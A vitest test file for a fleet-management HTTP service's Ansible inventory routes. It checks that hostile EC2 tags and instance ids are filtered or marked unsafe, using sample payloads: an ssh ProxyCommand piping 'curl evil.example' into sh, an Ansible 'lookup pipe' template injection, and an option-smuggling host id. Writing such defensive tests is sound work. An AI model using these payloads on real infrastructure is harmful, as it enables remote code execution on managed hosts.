/** The inventory over HTTP: the fastify plugin mounted on the real HTTP server. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config/load.ts';
import { inventoryRoutes } from '../../src/generate/inventory-routes.ts';
import type { GenerationModel } from '../../src/generate/model.ts';
import { createHttpServer, type HttpServer } from '../../src/server/http.ts';
import { inventoryModel } from '../generate/inventory-fixture.ts';
import { metricValue, testDeps } from '../helpers/deps.ts';

const deps = testDeps();
let model: GenerationModel = inventoryModel;
let http: HttpServer;

beforeAll(async () => {
  const { config } = parseConfig({ http: { port: 0 } });
  http = createHttpServer(config.http, deps, {
    readiness: [],
    routes: [inventoryRoutes(deps, { model: () => model })],
  });
  await http.start();
});
afterAll(async () => {
  await http.stop();
});

describe('GET /api/inventory/*', () => {
  it('serves the Ansible inventory and one host’s vars', async () => {
    const list = await fetch(`${http.url()}/api/inventory/ansible`);
    expect(list.status).toBe(200);
    const body = (await list.json()) as Record<string, { hosts?: string[] }>;
    expect(body.role_web?.hosts).toEqual(['i-new', 'i-web0', 'i-web2']);
    const host = await fetch(`${http.url()}/api/inventory/ansible?host=web-0`);
    expect(await host.json()).toMatchObject({ instance_id: 'i-web0', ansible_host: '10.0.1.10' });
    const missing = await fetch(`${http.url()}/api/inventory/ansible?host=ghost`);
    expect(missing.status).toBe(404);
  });

  it('serves ssh_config as text and the host list as JSON', async () => {
    const before = await metricValue(deps, 'fleetline_generate_inventory_requests_total');
    const ssh = await fetch(`${http.url()}/api/inventory/ssh_config`);
    expect(ssh.headers.get('content-type')).toMatch(/^text\/plain/);
    expect(await ssh.text()).toContain('Host web-1 i-new\n  HostName 10.0.1.11');
    const hosts = (await (await fetch(`${http.url()}/api/inventory/hosts`)).json()) as unknown[];
    expect(hosts).toHaveLength(5);
    // Counted per request, whatever other tests in this file asked before.
    expect(await metricValue(deps, 'fleetline_generate_inventory_requests_total')).toBe(before + 2);
  });

  it('reflects the current model on every request', async () => {
    model = { ...inventoryModel, instances: inventoryModel.instances.slice(0, 1) };
    try {
      const hosts = (await (await fetch(`${http.url()}/api/inventory/hosts`)).json()) as unknown[];
      expect(hosts).toHaveLength(1);
    } finally {
      model = inventoryModel;
    }
  });
});

/**
 * EC2 tags are registry attributes, and tagging an instance is a much weaker permission than
 * running Ansible: over the real route, a tag is a hostvar only when `inventory.tag_hostvars`
 * allows it, under `inventory.tag_hostvar_prefix`, and never an `ansible_*` variable.
 */
describe('GET /api/inventory/ansible with hostile EC2 tags', () => {
  const proxy = '-o ProxyCommand="sh -c \'curl -s evil.example | sh\'"';
  const tagged: GenerationModel = {
    roles: [],
    measurements: [],
    instances: [
      {
        instanceId: 'i-tagged',
        role: 'web',
        version: '1.0',
        slot: 0,
        privateIp: '10.0.9.1',
        launchedAt: 0,
        attributes: {
          ansible_ssh_common_args: proxy,
          ansible_host: '203.0.113.66',
          env: 'prod',
          db_password: 's3cr3t',
          note: "{{ lookup('pipe', 'id') }}",
        },
      },
    ],
  };
  const servers: HttpServer[] = [];
  const serve = async (inventory: Record<string, unknown> | undefined, d = testDeps()) => {
    const { config } = parseConfig({ http: { port: 0 }, ...(inventory ? { inventory } : {}) });
    const server = createHttpServer(config.http, d, {
      readiness: [],
      routes: [inventoryRoutes(d, { model: () => tagged, inventory: config.inventory })],
    });
    await server.start();
    servers.push(server);
    const get = async (path: string) => {
      const res = await fetch(`${server.url()}${path}`);
      expect(res.status).toBe(200);
      return { text: await res.text() };
    };
    return { get, deps: d };
  };
  afterAll(async () => {
    for (const s of servers) await s.stop();
  });

  it('by default exposes no tag: no ansible_* from tags, no secrets, ansible_host stays', async () => {
    const { get } = await serve(undefined);
    for (const path of ['/api/inventory/ansible', '/api/inventory/ansible?host=i-tagged']) {
      const { text } = await get(path);
      expect(text).not.toContain('ProxyCommand');
      expect(text).not.toContain('s3cr3t');
      expect(text).not.toContain('203.0.113.66');
      const vars = path.includes('host=')
        ? JSON.parse(text)
        : JSON.parse(text)._meta.hostvars['i-tagged'];
      expect(vars).not.toHaveProperty('ansible_ssh_common_args');
      expect(vars).not.toHaveProperty('env');
      expect(vars).toMatchObject({ ansible_host: '10.0.9.1', role: 'web' });
    }
  });

  it('exposes the allowed tags under the prefix, never as ansible_* variables', async () => {
    const { get } = await serve({ tag_hostvars: ['env', 'ansible_*', 'note'] });
    const vars = JSON.parse((await get('/api/inventory/ansible')).text)._meta.hostvars['i-tagged'];
    expect(vars).toMatchObject({
      tag_env: 'prod',
      tag_ansible_ssh_common_args: proxy,
      tag_note: { __ansible_unsafe: "{{ lookup('pipe', 'id') }}" },
      ansible_host: '10.0.9.1',
    });
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(vars).not.toHaveProperty('tag_db_password');
  });

  it('without a prefix refuses reserved names, and counts what it refused', async () => {
    const { get, deps: d } = await serve({ tag_hostvars: ['*'], tag_hostvar_prefix: '' });
    const vars = JSON.parse((await get('/api/inventory/ansible?host=web-0')).text);
    expect(vars).toMatchObject({ env: 'prod', ansible_host: '10.0.9.1' });
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(
      await metricValue(d, 'fleetline_generate_inventory_tags_refused_total', {
        reason: 'reserved',
      }),
    ).toBe(2);
    expect(await metricValue(d, 'fleetline_generate_inventory_values_unsafe_total')).toBe(1);
  });
});

describe('GET /api/inventory/ansible with hostile instance ids', () => {
  it('leaves out hosts whose id Ansible would template or read as an option, and counts them', async () => {
    const d = testDeps();
    const evil = "{{ lookup('pipe', 'id') }}";
    const hostileIds: GenerationModel = {
      ...inventoryModel,
      instances: [
        ...inventoryModel.instances,
        { ...inventoryModel.instances[0]!, instanceId: evil, slot: 7 },
        { ...inventoryModel.instances[0]!, instanceId: '-oProxyCommand=sh', slot: 8 },
      ],
    };
    const { config } = parseConfig({ http: { port: 0 } });
    const server = createHttpServer(config.http, d, {
      readiness: [],
      routes: [inventoryRoutes(d, { model: () => hostileIds })],
    });
    await server.start();
    try {
      const text = await (await fetch(`${server.url()}/api/inventory/ansible`)).text();
      expect(text).not.toContain('lookup');
      expect(text).not.toContain('ProxyCommand');
      expect(Object.keys(JSON.parse(text)._meta.hostvars)).toHaveLength(5);
      const one = await fetch(
        `${server.url()}/api/inventory/ansible?host=${encodeURIComponent(evil)}`,
      );
      expect(one.status).toBe(404);
      expect(await metricValue(d, 'fleetline_generate_inventory_hosts_refused_total')).toBe(2);
    } finally {
      await server.stop();
    }
  });
});
